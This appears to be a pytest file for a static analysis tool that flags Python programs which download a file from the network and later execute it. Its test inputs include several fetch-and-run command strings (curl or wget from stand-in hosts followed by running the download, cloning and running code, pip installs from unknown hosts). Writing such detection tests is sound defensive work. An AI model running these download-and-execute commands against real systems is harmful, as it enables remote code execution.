"""Programs that one call fetches and a later one of the same function starts."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.analysis.facts import Capability, Taint
from pratique.analysis.languages.python.fetched import Fetched
from tests.analysis.languages.python.reading import evaluated, facts, flows

STARTED = (Capability.PROCESS, {Taint.NETWORK})


def started(source: str) -> bool:
    return any((sink, taints) == STARTED for sink, _, taints in flows(source))


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('curl https://sink.invalid/a -o dark.exe')\nos.system('dark.exe')",
        "import os\nos.system('curl.exe -OLJ https://sink.invalid/astro.exe')\nos.system('\"astro.exe\" -w x')",
        "import os\nos.system('wget https://sink.invalid/run.sh')\nos.system('sh run.sh')",
        "import os\nos.system('wget -O /tmp/job https://sink.invalid/x')\nos.system('nohup /tmp/job &')",
        "import os\nclass A:\n os.system('curl https://sink.invalid/a -o d.exe')\n os.startfile('d.exe')",
        "import subprocess\nrun = subprocess.Popen\nrun(['cd x && curl https://sink.invalid/a -o d.exe'], shell=True)\nrun('d.exe')",
        "import git, os\ngit.Repo.clone_from('https://sink.invalid/a', 'b')\nos.system('python b/run.py')",
        "import git, os\ngit.Git('x').clone('https://sink.invalid/a')\nos.startfile('main.exe')",
    ],
)
def test_what_was_fetched_and_is_started_later_came_from_the_network(source: str) -> None:
    assert started(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('curl https://sink.invalid/a -o data.csv')\nos.system('ls data.csv')",
        "import os\nos.system('curl https://sink.invalid/a -o run')\nos.system('chmod +x run')",
        "import os\nos.system('make')\nos.system('curl https://sink.invalid/a -o make')",
        "import os\ndef a():\n os.system('curl https://sink.invalid/a -o d.exe')\ndef b():\n os.system('d.exe')",
        "import git, os\ngit.Repo.clone_from('https://sink.invalid/a', 'b')\nos.system('ls b')",
        "import git, os\ngit.Repo('.')\nos.system('python run.py')",
    ],
)
def test_other_programs_did_not(source: str) -> None:
    assert not started(source)


def test_a_cloned_repository_is_told_with_its_address() -> None:
    found = facts("from git import Repo\nRepo.clone_from('https://sink.invalid/a', 'b')").uses
    assert [(use.capability, use.argument) for use in found] == [
        (Capability.NETWORK, "https://sink.invalid/a")
    ]


@given(st.text(max_size=80), st.text(max_size=80))
def test_any_command_line_is_read(first: str, second: str) -> None:
    _, index, _ = evaluated("")
    fetched = Fetched()
    fetched.command("curl " + first, index.module, 1)
    assert fetched.origin(second, index.module, 2) in {0, 1}


@pytest.mark.parametrize(
    "command",
    [
        "os.system('pip install https://files.far.invalid/packages/kite-1.0.tar.gz')",
        "os.system(f'{sys.executable} -m pip install --quiet https://files.far.invalid/kite.whl')",
        "subprocess.run([sys.executable, '-m', 'pip', 'install', 'git+https://far.invalid/kite.git'])",
    ],
)
def test_a_package_installed_from_an_unheard_host_is_fetched_and_run(command: str) -> None:
    assert any(Taint.NETWORK in taints for _, _, taints in flows("import os, subprocess, sys\n" + command))


@pytest.mark.parametrize(
    "command",
    [
        "os.system('pip install kite')",
        "os.system('pip install kite -f https://files.far.invalid/wheels')",
        "os.system('pip install --index-url https://index.far.invalid/simple kite')",
        "os.system('pip install -i https://index.far.invalid/simple kite')",
        "os.system('pip install git+https://github.com/acme/kite.git')",
        "os.system('pip install https://files.pythonhosted.org/packages/kite-1.0.tar.gz')",
        "os.system('pip download https://files.far.invalid/kite.whl')",
    ],
)
def test_a_package_installed_from_an_index_or_a_host_of_many_is_not(command: str) -> None:
    assert not any(
        Taint.NETWORK in taints for _, _, taints in flows("import os, subprocess, sys\n" + command)
    )
